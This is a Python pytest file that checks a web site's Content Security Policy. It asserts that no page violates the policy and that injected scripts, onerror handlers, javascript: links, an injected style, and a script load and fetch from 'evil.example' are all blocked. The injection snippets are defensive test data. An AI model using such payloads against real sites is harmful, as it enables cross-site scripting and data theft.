"""No page does what the policy forbids that is sent with it; what it forbids does not happen."""

import pytest

from tests.browser.conftest import TRIALS
from tests.browser.test_pages import DESK, opened, pages

NOTE = """
window.broken = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.broken.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
"""


def policy(tab, url: str) -> str:
    return tab.goto(url, wait_until="load").headers["content-security-policy"]


@pytest.mark.parametrize("trial", TRIALS)
def test_no_page_breaks_its_policy_opened_used_or_printed(books, sites, browser, trial):
    with opened(browser, DESK) as tab:
        tab.add_init_script(NOTE)
        for page in [*pages(books, trial), "search.html?q=hazard"]:
            told = policy(tab, f"{sites[trial]}/{page}")
            assert "unsafe" not in told
            tab.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true })")
            for button in tab.locator("button:visible").all()[:12]:
                button.click(timeout=2000, force=True)
                tab.keyboard.press("Escape")
            tab.emulate_media(media="print")
            tab.emulate_media(media="screen")
            assert tab.evaluate("window.broken") == [], page
            handlers = "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())"
            assert not [name for name in tab.evaluate(handlers) if name.startswith("on")], page
        assert tab.wrong == []


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.textContent = 'window.hit = 1';"
        "document.body.append(s)",
        "const i = document.createElement('img'); i.setAttribute('onerror', 'window.hit = 1');"
        "i.src = 'none.png'; document.body.append(i)",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
        "document.body.append(s)",
        "const a = document.createElement('a'); a.href = 'javascript:window.hit = 1';"
        "document.body.append(a); a.click()",
        "fetch('https://evil.example/').catch(() => 0)",
        "const s = document.createElement('style'); s.textContent = 'body { display: none }';"
        "document.body.append(s)",
    ],
    ids=["script", "handler", "other host", "javascript:", "fetch", "style"],
)
def test_what_the_policy_forbids_does_not_happen(sites, browser, attack):
    with opened(browser, DESK) as tab:
        tab.add_init_script(NOTE)
        tab.goto(f"{sites['gbsg2']}/book/index.html", wait_until="load")
        tab.evaluate(attack)
        tab.wait_for_function("window.broken.length > 0", timeout=5000)
        assert tab.evaluate("window.hit") is None
        assert tab.locator("h1").first.is_visible()
